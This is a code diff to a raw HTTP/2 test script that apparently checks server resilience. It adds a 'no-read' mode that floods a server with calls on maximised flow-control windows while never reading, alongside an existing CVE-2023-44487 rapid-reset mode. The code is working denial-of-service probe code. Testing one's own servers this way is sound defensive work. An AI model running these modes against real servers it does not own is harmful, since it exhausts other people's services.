@@ -11,6 +11,12 @@
         Opens STREAMS calls of METHOD on one connection, each reset (RST_STREAM CANCEL) as
         soon as it is sent (the CVE-2023-44487 pattern), for at most SECONDS. Prints
         `sent=<streams sent> goaway=<0|1> refused=<streams the server refused>`.
+
+    h2raw.py no-read ADDRESS METHOD STREAMS SECONDS
+        Opens STREAMS calls of METHOD with every flow-control window open, on a connection
+        with a small receive buffer, and reads nothing for SECONDS, so the answers back up
+        in the server. Then reads what is left: prints `cut=1` if the server had ended the
+        connection, `cut=0` if the answers still came.
 """
 import socket
 import struct
@@ -21,6 +27,8 @@ import time
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
 END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
 SETTINGS_INITIAL_WINDOW_SIZE = 4
+MAX_WINDOW = 2**31 - 1
+DEFAULT_WINDOW = 65535
 CANCEL, REFUSED_STREAM = 8, 7
 
 
@@ -136,12 +144,41 @@ def rapid_reset(address, method, streams, seconds):
     conn.close()
 
 
+def no_read(address, method, streams, seconds):
+    host, port = address.rsplit(":", 1)
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+    sock.connect((host, int(port)))
+    headers = call_headers(method)
+    calls = b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, headers) +
+                     frame(DATA, END_STREAM, 1 + 2 * i, EMPTY_MESSAGE) for i in range(streams))
+    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
+                 frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW)) +
+                 frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - DEFAULT_WINDOW)) + calls)
+    time.sleep(seconds)
+    sock.settimeout(3)
+    cut = 0
+    received = 0
+    try:
+        while chunk := sock.recv(1 << 16):
+            received += len(chunk)
+        cut = 1
+    except ConnectionResetError:
+        cut = 1
+    except socket.timeout:
+        pass
+    print(f"cut={cut} received={received}", flush=True)
+    sock.close()
+
+
 def main():
     mode, address, method = sys.argv[1], sys.argv[2], sys.argv[3]
     if mode == "stall":
         stall(address, method, float(sys.argv[4]))
     elif mode == "rapid-reset":
         rapid_reset(address, method, int(sys.argv[4]), float(sys.argv[5]))
+    elif mode == "no-read":
+        no_read(address, method, int(sys.argv[4]), float(sys.argv[5]))
     else:
         sys.exit(f"unknown mode {mode}")
 
